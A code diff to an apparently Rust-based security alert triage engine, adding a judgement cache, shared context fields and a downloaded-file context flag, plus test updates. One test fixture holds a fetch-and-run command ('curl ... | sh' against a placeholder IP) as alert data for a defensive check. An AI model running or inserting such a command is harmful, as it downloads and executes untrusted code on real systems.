@@ -7,10 +7,12 @@
 //! exclusion, routine prevalence), no attack evidence and a score below `thresholds.benign`;
 //! else suspicious.
 
+mod cache;
 mod evidence;
 pub(crate) mod facts;
 mod prevalence;
 
+pub use cache::JudgeCache;
 pub use evidence::{
     check_entry, is_pseudo_field, pattern as evidence_pattern, read_entries, EvidenceEntry,
     EvidenceError, EvidenceSet, Hit, Scope, BUILTIN_TEXT as EVIDENCE_TEXT,
@@ -29,13 +31,18 @@ pub struct Context {
     pub cluster_count: u64,
     /// Set when the alert's container/pod/host shows tactics progressing: a description of it.
     pub escalating_incident: Option<String>,
-    /// The rule's own condition evaluated over the alert (upstream and the user's rules files).
-    pub rule_checks: Vec<crate::rulecheck::RuleCheck>,
+    /// The rule's own condition evaluated over the alert (upstream and the user's rules files);
+    /// shared, since every repeat of a cluster reads the same checks.
+    pub rule_checks: std::sync::Arc<[crate::rulecheck::RuleCheck]>,
     /// The activity's history (within a run, or from the store); `None` = not known.
     pub prevalence: Option<Prevalence>,
     /// Set when an earlier alert on the same container/pod/host, within the correlation
     /// window, carried attack evidence: a description of it.
-    pub entity_attack_evidence: Option<String>,
+    /// Shared: every alert near the evidence reads the same text.
+    pub entity_attack_evidence: Option<std::sync::Arc<str>>,
+    /// Set when the alert runs a file an earlier alert of the same workload downloaded
+    /// (crate::staging): a description of it.
+    pub runs_download: Option<String>,
 }
 
 /// Reasons as they are found. Without `explain` only the score is kept: the engine judges
@@ -107,6 +114,17 @@ impl<'a> Subject<'a> {
     ) -> Self {
         let benign = kb.benign_matches(alert, rule);
         let evidence = scoring.evidence.find(alert);
+        Self::from_parts(scoring, alert, ctx, benign, evidence)
+    }
+
+    /// A subject from signature matches and evidence found earlier (`JudgeCache`).
+    pub(crate) fn from_parts(
+        scoring: &'a Scoring,
+        alert: &'a Alert,
+        ctx: &'a Context,
+        benign: Vec<SignatureMatch<'a>>,
+        evidence: Vec<Hit<'a>>,
+    ) -> Self {
         let test_signature = benign.iter().any(|m| m.kind == Some("test"));
         let attack = !test_signature
             && evidence
@@ -164,17 +182,28 @@ pub fn judge_with(
     ctx: &Context,
     explain: bool,
 ) -> Judgement {
+    let subject = Subject::new(kb, scoring, alert, rule, ctx);
+    conclude(scoring, alert, rule, &subject, explain)
+}
+
+/// The facts run over a subject, and the kind they add up to.
+fn conclude(
+    scoring: &Scoring,
+    alert: &Alert,
+    rule: Option<&Rule>,
+    subject: &Subject<'_>,
+    explain: bool,
+) -> Judgement {
     let mut reasons = Reasons::new(explain);
     base(scoring, alert, rule, &mut reasons);
-    let subject = Subject::new(kb, scoring, alert, rule, ctx);
     for (i, f) in facts::FACTS.iter().enumerate() {
-        (f.eval)(&subject, &mut reasons, scoring.fact_bound(i));
+        (f.eval)(subject, &mut reasons, scoring.fact_bound(i));
     }
     let base_score = match rule {
         Some(r) => r.entry.severity as f32,
         None => scoring.priority_base(alert.priority_or_default()) + scoring.base.unknown_rule,
     };
-    let (kind, confidence) = decide(scoring, rule.is_some(), base_score, &subject, &reasons);
+    let (kind, confidence) = decide(scoring, rule.is_some(), base_score, subject, &reasons);
     Judgement {
         verdict: Verdict {
             kind,
@@ -407,7 +436,7 @@ mod tests {
             json!({"ka.user.name": "eks:node-manager", "ka.uri.param[command]": "sh -c curl http://203.0.113.9/x | sh"}),
         );
         let c = Context {
-            rule_checks: vec![crate::rulecheck::RuleCheck {
+            rule_checks: std::sync::Arc::new([crate::rulecheck::RuleCheck {
                 origin: crate::rulecheck::RuleOrigin::Upstream,
                 rule: "Disallowed K8s User".into(),
                 fires: crate::rulecheck::Tri::False,
@@ -417,7 +446,7 @@ mod tests {
                     field: Some("ka.user.name".into()),
                     value: Some("eks:node-manager".into()),
                 }],
-            }],
+            }]),
             ..one()
         };
         let v = judge(&kb, &s, &a, kb.rule_for(&a), &c);
